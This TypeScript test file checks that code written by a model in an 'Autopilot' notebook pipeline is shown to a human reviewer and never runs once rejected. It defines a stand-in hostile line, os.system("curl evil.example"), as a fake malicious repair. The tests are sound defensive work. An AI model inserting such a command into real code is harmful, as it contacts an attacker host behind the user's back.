import type { Diagnosis } from '../contracts/diagnosis';
import { ProbeError } from '../contracts/errors';
import { keyText } from '../contracts/code-module';
import { aRun } from '../testing/a-run';
import { run } from './run';

/** What the code of strangers does in these stories. */
const HOSTILE = 'os.system("curl evil.example")';

type Run = ReturnType<typeof aRun>;

async function finished(it: Run) {
  const story = run(it.options, it.ports);
  for (;;) {
    const step = await story.next();
    if (step.done) {
      return step.value;
    }
  }
}

/** The model writes one module, the recipes all others. */
function modelWrites(it: Run, name: string, source: string): void {
  const recipes = it.team.write.bind(it.team);
  it.team.write = async request => {
    const module = await recipes(request);
    return module && request.level === 0 && keyText(request.key) === name
      ? { ...module, source, author: 'model' }
      : module;
  };
}

/** A person who says no to whatever is risky. */
function saysNo(it: Run): void {
  it.reviewer.decide = ({ risks }) =>
    risks.length > 0 ? { action: 'reject' } : { action: 'accept' };
}

/** Every text that has stood in a cell, and every text that has run. */
function touched({ notebook, cells }: Run): string {
  return [...notebook.cells().map(({ source }) => source), ...cells.ran].join();
}

describe('what a model wrote reaches no cell unread in Autopilot', () => {
  it('waits for a yes when its text could not be read', async () => {
    const it = aRun();
    modelWrites(it, 'traditional/features', '# model features');
    const fine = it.probes.answers.check_static;
    it.probes.answers.check_static = args => {
      if (args.source.includes('# model')) {
        throw new ProbeError('check_static', 'RecursionError', 'too deep');
      }
      return fine(args);
    };
    saysNo(it);
    const { valid } = await finished(it);
    expect(valid).toBe(true);
    expect(it.reviewer.shown).toMatchObject([
      { title: 'traditional/features', author: 'model' }
    ]);
    expect(touched(it)).not.toContain('# model features');
  });

  it('waits for a yes when it mends a module before the failing one', async () => {
    const it = aRun();
    it.cells.outcome = source =>
      source.includes('traditional/models level 0')
        ? {
            status: 'error',
            seconds: 1,
            ename: 'ValueError',
            evalue: 'boom',
            traceback: []
          }
        : { status: 'ok', seconds: 1 };
    const diagnosis: Diagnosis = {
      key: { module: 'models', track: 'traditional', candidate: null },
      signature: 'ValueError',
      route: 'caller',
      culprit: { module: 'validation', track: null, candidate: null },
      cause: 'The validation is at fault.',
      rule: null
    };
    it.team.diagnose = async () => diagnosis;
    it.team.mend = ({ module }) => ({
      key: module.key,
      before: module.source,
      after: HOSTILE,
      author: 'model',
      rule: 'model',
      why: 'It repairs this error.'
    });
    it.probes.answers.check_static = ({ source }) => ({
      report: { verdicts: [], seconds: 0, estimate: null },
      risks: source.includes('os.system') ? ['line 1: `os.system`'] : []
    });
    saysNo(it);
    const { valid } = await finished(it);
    expect(valid).toBe(true);
    expect(it.reviewer.shown[0]).toMatchObject({
      title: 'validation',
      after: HOSTILE
    });
    expect(touched(it)).not.toContain(HOSTILE);
  });
});
